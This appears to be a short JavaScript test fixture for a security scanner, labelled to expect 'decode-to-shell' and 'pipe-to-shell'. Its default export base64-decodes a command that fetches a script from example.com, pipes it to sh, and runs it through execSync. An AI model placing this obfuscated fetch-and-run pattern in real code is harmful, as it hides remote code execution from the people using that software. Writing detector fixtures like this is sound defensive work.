// expect: decode-to-shell, pipe-to-shell
import { execSync } from "node:child_process";

const c = Buffer.from("Y3VybCAtcyBodHRwczovL2V4YW1wbGUuY29tIHwgc2g=", "base64").toString();

export default () => execSync(c);
